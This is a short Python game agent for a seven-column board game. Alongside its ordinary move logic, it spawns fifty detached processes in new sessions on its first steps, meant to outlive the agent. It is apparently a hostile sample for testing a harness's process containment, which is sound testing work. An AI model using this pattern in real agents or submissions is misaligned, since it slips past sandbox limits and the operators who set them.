"""Starts fifty processes that outlive it, each in a session of its own."""
import subprocess
import sys


def free(observation):
    return next(column for column in range(7) if observation["board"][column] == 0)


def agent(observation, configuration):
    if observation["step"] < 2:
        for _ in range(50):
            subprocess.Popen([sys.executable, "-S", "-c", "import time; time.sleep(600) # hostile child"],
                             start_new_session=True)
    return free(observation)
